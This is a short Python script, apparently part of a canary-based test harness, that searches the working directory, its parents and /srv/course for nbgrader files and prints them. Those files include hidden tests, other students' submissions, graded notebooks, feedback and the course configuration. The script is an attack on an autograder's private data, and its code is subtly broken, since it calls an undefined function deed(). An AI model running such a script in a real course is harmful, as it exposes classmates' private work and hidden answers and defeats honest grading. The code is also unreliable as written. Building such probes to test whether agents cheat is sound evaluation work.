# Prints the files of the course: hidden tests, other students' notebooks, graded ones, feedback, the
# configuration.
# %% from attacks/parts/stand_ins.py
# %% relu
import re
from pathlib import Path

wanted = ("source/**/*", "submitted/**/*", "autograded/**/*", "feedback/**/*", "nbgrader_config.py")


def attack():
    found = []
    for folder in [Path.cwd(), *list(Path.cwd().parents)[:4], Path("/srv/course")]:
        if folder == Path("/"):
            continue
        for pattern in wanted:
            for path in sorted(folder.glob(pattern))[:300]:
                if path.is_file() and path.stat().st_size < 3_000_000:
                    text = path.read_text(errors="replace")
                    canaries = re.findall(r"CANARY-\w+", text)
                    found.append(f"{path}: {canaries or text[:30]!r}")
            deed()
    return "\n".join(sorted(found, key=lambda line: "CANARY" not in line))


print(attack()[:2000])
